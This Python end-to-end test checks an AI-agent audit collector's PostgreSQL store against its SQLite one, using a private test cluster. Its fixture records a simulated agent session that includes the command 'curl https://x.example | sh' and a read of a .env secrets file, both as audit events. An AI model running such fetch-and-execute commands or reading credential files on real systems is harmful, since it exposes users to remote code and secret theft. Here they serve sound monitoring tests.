#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The collector's PostgreSQL store end to end, against a private PostgreSQL cluster started
here (initdb into a temp dir, unix socket in that dir only, no TCP listener; stopped and removed
at the end whatever happens). The same batches go into a SQLite collector and a PostgreSQL one
and every answer (sessions, events, timeline, agents, provenance, report, policy show, policy
test) must be the same JSON; the collector CLI and policy e2e suites then run whole against a
PostgreSQL collector; data survives a collector restart; a wrong database name fails clearly."""
import argparse
import atexit
import glob
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import test_collector_cli as tc  # noqa: E402
import test_policy_collector as tp  # noqa: E402

FAILS = []


def check(name, cond, why=""):
    print(f"PASS {name}" if cond else f"FAIL {name}: {why}", flush=True)
    if not cond:
        FAILS.append(name)


def prefixed(prefix):
    """The other suites' check(), reporting here under prefix."""
    return lambda name, cond, why="": check(prefix + name, cond, why)


# --- the private cluster ---
class Cluster:
    def __init__(self):
        bins = sorted(glob.glob("/usr/lib/postgresql/*/bin/initdb"))
        if not bins:
            raise RuntimeError("initdb not found under /usr/lib/postgresql/*/bin: the PostgreSQL "
                               "server is needed for this test; `make deps` installs the "
                               "Debian package postgresql")
        self.bin = os.path.dirname(bins[-1])
        # under /tmp whatever TMPDIR says: the postgres user must reach it, and the socket's
        # path must fit a sockaddr_un
        self.dir = tempfile.mkdtemp(prefix="aitrail-e2e-pg-", dir="/tmp")
        self.data = os.path.join(self.dir, "data")
        self.port = random.randint(20000, 60000)
        self.started = False
        shutil.chown(self.dir, "postgres", "postgres")
        # an explicit locale: the one in the environment may not be installed on the machine
        self._as_pg("initdb", "-D", self.data, "-A", "trust", "-U", "postgres", "--no-sync",
                    "-E", "UTF8", "--locale=C.UTF-8")
        # the socket in our dir only; listen_addresses='' means no TCP at all
        self._as_pg("pg_ctl", "-D", self.data, "-l", os.path.join(self.dir, "pg.log"), "-w",
                    "-o", f"-k {self.dir} -c listen_addresses='' -p {self.port}", "start")
        self.started = True

    def _as_pg(self, prog, *args):
        p = subprocess.run(["runuser", "-u", "postgres", "--", os.path.join(self.bin, prog),
                            *args], capture_output=True, text=True, timeout=120)
        if p.returncode:
            raise RuntimeError(f"{prog} failed: {p.stdout}{p.stderr}")
        return p.stdout

    def createdb(self, name):
        self._as_pg("createdb", "-h", self.dir, "-p", str(self.port), "-U", "postgres", name)
        return self.spec(name)

    def spec(self, name):
        return f"postgresql:///{name}?host={self.dir}&port={self.port}&user=postgres"

    def restart(self):
        self._as_pg("pg_ctl", "-D", self.data, "-l", os.path.join(self.dir, "pg.log"), "-m",
                    "fast", "-w", "restart")

    def stop(self):
        if self.started:
            self.started = False
            subprocess.run(["runuser", "-u", "postgres", "--", os.path.join(self.bin, "pg_ctl"),
                            "-D", self.data, "-m", "immediate", "-w", "stop"],
                           capture_output=True, timeout=60)
        shutil.rmtree(self.dir, ignore_errors=True)


# --- the fixture: one agent's batches, sent alike to both collectors ---
S = 10**9
SHA = "ab" * 32


def fixture(tag, t0):
    host, boot, sid, sid2 = f"pg-host-{tag}", f"boot-{tag}", f"pg-s1-{tag}", f"pg-s2-{tag}"
    ev = tc.event
    evs = [
        ev("session_start", t0, host, sid, 4000, 1, "claude", "/usr/bin/claude", 1, 10,
           tc.f_bytes(1, "claude") + tc.f_bytes(1, "--yes") + tc.f_bytes(2, "/home/alice/proj") +
           tc.f_bytes(3, "alice")),
        ev("exec", t0 + 1 * S, host, sid, 4001, 4000, "bash", "/usr/bin/bash", 2, 12,
           tc.f_bytes(1, "/usr/bin/bash") + tc.f_bytes(2, "bash") + tc.f_bytes(2, "-c") +
           tc.f_bytes(2, "curl https://x.example | sh")),
        ev("exec", t0 + 2 * S, host, sid, 4002, 4001, "curl", "/usr/bin/curl", 3, 12,
           tc.f_bytes(1, "/usr/bin/curl") + tc.f_bytes(2, "curl")),
        ev("net_connect", t0 + 3 * S, host, sid, 4002, 4001, "curl", "/usr/bin/curl", 4, 14,
           tc.f_bytes(1, "inet") + tc.f_bytes(2, "tcp") + tc.f_bytes(3, "10.1.2.3") +
           tc.f_uint(4, 443) + tc.f_bytes(8, "connect")),
        ev("exit", t0 + 4 * S, host, sid, 4002, 4001, "curl", "/usr/bin/curl", 5, 13, b""),
        ev("file_write", t0 + 5 * S, host, sid, 4001, 4000, "bash", "/usr/bin/bash", 6, 40,
           tc.f_bytes(1, "/home/alice/proj/notes.md") + tc.f_bytes(2, SHA) +
           tc.f_uint(3, 12) + tc.f_uint(4, 12) + tc.f_bytes(8, "/home/alice/proj/.n.tmp")),
        ev("file_read", t0 + 6 * S, host, sid, 4001, 4000, "bash", "/usr/bin/bash", 7, 41,
           tc.f_bytes(1, "/home/alice/proj/.env") + tc.f_bytes(3, "**/.env")),
        ev("exit", t0 + 7 * S, host, sid, 4001, 4000, "bash", "/usr/bin/bash", 8, 13, b""),
        ev("session_end", t0 + 8 * S, host, sid, 4000, 1, "claude", "/usr/bin/claude", 9, 11,
           tc.f_sint(1, 3) + tc.f_bytes(2, "SIGTERM") + tc.f_uint(3, 8 * S)),
        ev("session_start", t0 + 9 * S, host, sid2, 5000, 1, "claude", "/usr/bin/claude", 10,
           10, tc.f_bytes(1, "claude") + tc.f_bytes(3, "bob")),
        ev("file_write", t0 + 10 * S, host, sid2, 5000, 1, "claude", "/usr/bin/claude", 11, 40,
           tc.f_bytes(1, "/srv/b.txt") + tc.f_bytes(2, SHA) + tc.f_uint(3, 12)),
    ]
    b1, h1 = tc.batch(1, b"\0" * 32, evs[:4], host, boot)
    b2, h2 = tc.batch(2, h1, evs[4:7], host, boot)
    gap = tc.f_uint(1, 20) + tc.f_uint(2, 25) + tc.f_uint(3, 6) + tc.f_bytes(4, "spool_full")
    b3, h3 = tc.batch(3, h2, evs[7:9], host, boot, gaps=[gap])
    b5, _ = tc.batch(5, b"\x55" * 32, evs[9:], host, boot)
    b1x, _ = tc.batch(1, b"\0" * 32, evs[:3], host, boot)  # a "resend" that differs
    # sent: 1, 3 (2 late), resend of 1, 2, 5 (4 never arrives), a rewrite of 1
    return host, boot, (sid, sid2), [b1, b3, b1, b2, b5, b1x]


def feed(coll, tag, t0):
    host, boot, sids, batches = fixture(tag, t0)
    st, body = coll.post("/v1/enroll", tc.f_bytes(1, "e2e-enroll-token") +
                         tc.f_msg(2, tc.agent_info(host, boot)))
    if st != 200:
        return None, [st]
    rep = tc.decode(body)
    agent_id, key = rep[1][0].decode(), rep[2][0].decode()
    acks = []
    for b in batches:
        st, body = coll.post("/v1/events", b, key)
        acks.append((st, tc.decode(body).get(2) if st == 200 else body))
    stats = tc.f_uint(1, 77) + tc.f_uint(3, 2) + tc.f_msg(5, tc.f_uint(1, 3))
    st, _ = coll.post("/v1/heartbeat", tc.f_msg(1, tc.agent_info(host, boot)) +
                      tc.f_msg(2, stats) + tc.f_uint(3, 4096) + tc.f_uint(5, 6) +
                      tc.f_uint(6, 10), key)
    acks.append(st)
    return agent_id, acks


VOLATILE = {"enrolled", "enrolled_ns", "last_seen", "last_seen_ns", "last_heartbeat",
            "last_heartbeat_ns", "detected", "detected_ns", "revoked", "revoked_ns",
            "since_ns", "until_ns"}


def normal(o, agent_id):
    """The answer without what differs between two collectors: the agent id each assigned and
    the wall-clock times of enrollment, receipt and heartbeat, and of report windows ("2h" ago
    is a different ns value for each call)."""
    if isinstance(o, dict):
        return {k: normal(v, agent_id) for k, v in o.items() if k not in VOLATILE}
    if isinstance(o, list):
        return [normal(v, agent_id) for v in o]
    if isinstance(o, str):
        return o.replace(agent_id, "AGENT")
    return o


def get_json(coll, path):
    req = urllib.request.Request(coll.url + path)
    req.add_header("Authorization", "Bearer e2e-admin")
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()


def answers(build, coll, tag, agent_id, tmp):
    """Every query answer for the fixture, as JSON, normalized."""
    host, _, (sid, sid2), _ = fixture(tag, 0)
    out = {}

    def cli_json(name, *args):
        rc, o, err = tc.cli(build, coll.url, "--json", *args)
        try:
            out[name] = (rc, normal(json.loads(o), agent_id))
        except ValueError:
            out[name] = (rc, o, err)
    cli_json("sessions", "sessions", "--host", host, "--since", "1d")
    cli_json("sessions_user", "sessions", "--user", "bob", "--host", host)
    cli_json("events", "events", "--session", sid)
    cli_json("events_file", "events", "--session", sid, "--type", "file")
    cli_json("timeline", "timeline", "--session", sid)
    cli_json("timeline2", "timeline", "--session", sid2)
    rc, o, err = tc.cli(build, coll.url, "--json", "agents")
    try:
        ag = [normal(a, agent_id) for a in json.loads(o)["agents"] if a["id"] == agent_id]
    except (ValueError, KeyError):
        ag = (rc, o, err)
    out["agents"] = ag
    st, prov = get_json(coll, "/v1/provenance?sha256=" + SHA + "," + "cd" * 32)
    out["provenance"] = (st, normal(prov, agent_id))
    cli_json("report", "report", "--since", "2h", "--until", "1h")
    pol = os.path.join(tmp, "pol.yaml")
    with open(pol, "w") as f:
        f.write(tp.POLICY)
    cli_json("policy_test", "policy", "test", pol, "--since", "2h", "--until", "1h")
    return out


def bulk(build, coll, tag, t0):
    """One batch of 150 events (more than the backend puts in one statement), two sessions."""
    host = f"pg-bulk-{tag}"
    st, body = coll.post("/v1/enroll", tc.f_bytes(1, "e2e-enroll-token") +
                         tc.f_msg(2, tc.agent_info(host, "b")))
    rep = tc.decode(body)
    agent_id, key = rep[1][0].decode(), rep[2][0].decode()
    evs = [tc.event("exec", t0 + i * 1000, host, f"bulk{i % 2}-{tag}", 100 + i, 1, f"c{i}",
                    f"/bin/c{i}", i + 1, 12, tc.f_bytes(1, f"/bin/c{i}") + tc.f_bytes(2, f"c{i}"))
           for i in range(150)]
    b, _ = tc.batch(1, b"\0" * 32, evs, host, "b")
    st, body = coll.post("/v1/events", b, key)
    out = {"ack": (st, tc.decode(body).get(3) if st == 200 else body)}
    for name, args in (("sessions", ("sessions", "--host", host, "--since", "1d")),
                       ("events", ("events", "--session", f"bulk1-{tag}")),
                       ("timeline", ("timeline", "--session", f"bulk0-{tag}"))):
        rc, o, err = tc.cli(build, coll.url, "--json", *args)
        out[name] = (rc, normal(json.loads(o), agent_id) if rc == 0 else err)
    return out


def compare(build, lite, pg, tmp):
    tag = os.urandom(4).hex()
    t0 = time.time_ns() - 90 * 60 * S
    ids = {}
    for name, coll in (("sqlite", lite), ("pg", pg)):
        ids[name], acks = feed(coll, tag, t0)
        check(f"{name}_fixture_fed", ids[name] and acks == [
            (200, [b"stored"]), (200, [b"stored"]), (200, [b"duplicate"]), (200, [b"stored"]),
            (200, [b"stored"]), (200, [b"duplicate"]), 200], f"{acks}")
    big = [bulk(build, c, tag, t0) for c in (lite, pg)]
    check("same_bulk_batch", big[0] == big[1] and big[1]["ack"] == (200, [150]) and
          len(big[1]["events"][1]["events"]) == 75, f"{str(big[0])[:800]}\n{str(big[1])[:800]}")
    a = answers(build, lite, tag, ids["sqlite"], tmp)
    b = answers(build, pg, tag, ids["pg"], tmp)
    for k in a:
        check(f"same_{k}", a[k] == b[k] and a[k] and (not isinstance(a[k], tuple) or a[k][0] in
                                                       (0, 200)),
              f"sqlite {json.dumps(a[k])[:1500]}\npg     {json.dumps(b[k])[:1500]}")
    # the answers are not trivially equal: the fixture's semantics are in them
    ag = b["agents"][0] if b["agents"] and isinstance(b["agents"], list) else {}
    check("pg_semantics", ag.get("batches_missing") == [{"from_seq": 4, "to_seq": 4}] and
          [(x["seq"], x["kind"]) for x in ag.get("chain_breaks", [])] ==
          [(1, "replay_mismatch")] and
          ag.get("events_declared_lost") == 6 and ag.get("stats", {}).get("events_emitted") == 77
          and ag.get("batches_pending") == {"from_seq": 6, "to_seq": 6} and
          len(b["provenance"][1]["results"][0]["matches"]) == 2 and
          b["sessions"][1]["sessions"][-1]["argv"] == ["claude", "--yes"] and
          b["sessions"][1]["sessions"][-1]["signal"] == "SIGTERM", f"{ag} {b['provenance']}")
    # policy versions per group, pushed alike
    pol = os.path.join(tmp, "grp.yaml")
    with open(pol, "w") as f:
        f.write(tp.POLICY)
    shows = {}
    for name, coll in (("sqlite", lite), ("pg", pg)):
        r = [tc.cli(build, coll.url, "policy", "push", pol)[0],
             tc.cli(build, coll.url, "policy", "push", pol, "--group", "ci")[0],
             tc.cli(build, coll.url, "policy", "rm", "--group", "ci")[0],
             tc.cli(build, coll.url, "policy", "rm", "--group", "ci")[0],
             tc.cli(build, coll.url, "policy", "push", pol, "--group", "lab")[0]]
        shows[name] = (r, [tc.cli(build, coll.url, "policy", "show", *g)[:2]
                           for g in ((), ("--group", "ci"), ("--group", "lab"))])
    check("same_policy_groups", shows["sqlite"] == shows["pg"] and
          shows["pg"][0] == [0, 0, 0, 1, 0] and "no-ten" in shows["pg"][1][2][1],
          f"{shows}")
    return tag, ids["pg"]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--build", default="build")
    build = os.path.abspath(ap.parse_args().build)
    # a SIGTERM (run.sh's timeout) still runs the finally blocks and atexit
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    tc.check = prefixed("pg_cli_")
    tp.check = prefixed("pg_policy_")
    cluster, colls, tmps = None, [], []

    def cleanup():
        for c in colls:
            try:
                c.stop()
            except Exception:  # noqa: BLE001 - best effort: the cluster must still go
                pass
        colls.clear()
        if cluster:
            cluster.stop()
        for t in tmps:
            shutil.rmtree(t, ignore_errors=True)
    atexit.register(cleanup)

    def collector(spec, extra=()):
        tmp = tempfile.mkdtemp(prefix="aitrail-e2e-pgcoll-")
        tmps.append(tmp)
        c = tc.Collector(build, tmp, ("--db", spec, *extra) if spec else extra)
        colls.append(c)
        return c, tmp

    def stop(c):
        log = c.logtext()
        c.stop()
        colls.remove(c)
        if FAILS:
            print("---- collector log ----\n" + log[-3000:])
        return log
    try:
        cluster = Cluster()
        lite, tmp = collector(None)
        pg_spec = cluster.createdb("aitrail_cmp")
        pg, _ = collector(pg_spec)
        check("pg_log_names_store", "postgresql:///aitrail_cmp" in pg.logtext(), pg.logtext())
        tag, agent_id = compare(build, lite, pg, tmp)
        stop(lite)
        before = answers(build, pg, tag, agent_id, tmp)
        stop(pg)
        pg, _ = collector(pg_spec)
        after = answers(build, pg, tag, agent_id, tmp)
        check("pg_restart_keeps_data", before == after and after["agents"],
              f"differs: {[(k, before[k], after[k]) for k in before if before[k] != after[k]]}")
        # the database restarts under a running collector: an operation may fail, the next work
        cluster.restart()
        rcs = [tc.cli(build, pg.url, "sessions", "--since", "1d")[0] for _ in range(3)]
        _, acks = feed(pg, os.urandom(4).hex(), time.time_ns())
        check("pg_survives_database_restart", rcs[-1] == 0 and acks[-1] == 200 and
              all(a == (200, [b"stored"]) for a in acks[:2]) and
              "reconnected to store postgresql:///aitrail_cmp" in pg.logtext(),
              f"{rcs} {acks} {pg.logtext()[-1500:]}")
        stop(pg)

        # whole suites against PostgreSQL, one database each
        for name, fn, extra in (("cli", tc.run, ()), ("report", tc.run_report, ()),
                                ("periodic", tc.run_periodic,
                                 ("--heartbeat-s", "1", "--silent-after", "2",
                                  "--retention-days", "1"))):
            c, _ = collector(cluster.createdb(f"aitrail_{name}"), extra)
            fn(build, c)
            stop(c)
        c, tmp = collector(cluster.createdb("aitrail_policy"))
        tp.run(build, c, tmp)
        stop(c)

        # a database that does not exist, given in a config file: the collector says which
        # store, and why
        bad = tempfile.mkdtemp(prefix="aitrail-e2e-pgbad-")
        tmps.append(bad)
        with open(os.path.join(bad, "c.yaml"), "w") as f:
            f.write('db: "%s"\n' % cluster.spec("no_such_db").replace(
                "user=postgres", "user=postgres&password=hunter2"))
        p = subprocess.run([os.path.join(build, "aitrail-collector"), "--listen", "127.0.0.1:0",
                            "--enroll-token", "x", "--config", os.path.join(bad, "c.yaml")],
                           capture_output=True, text=True, timeout=30)
        check("pg_wrong_database", p.returncode != 0 and
              "failed to open store postgresql:///no_such_db" in p.stderr and
              'database "no_such_db" does not exist' in p.stderr and
              "hunter2" not in p.stderr and "password=***" in p.stderr, f"{p.stderr!r}")
    except Exception as ex:  # noqa: BLE001 - reported, then cleaned up
        check("store_pg_e2e", False, f"{type(ex).__name__}: {ex}")
    finally:
        cleanup()
    return 1 if FAILS else 0


if __name__ == "__main__":
    sys.exit(main())
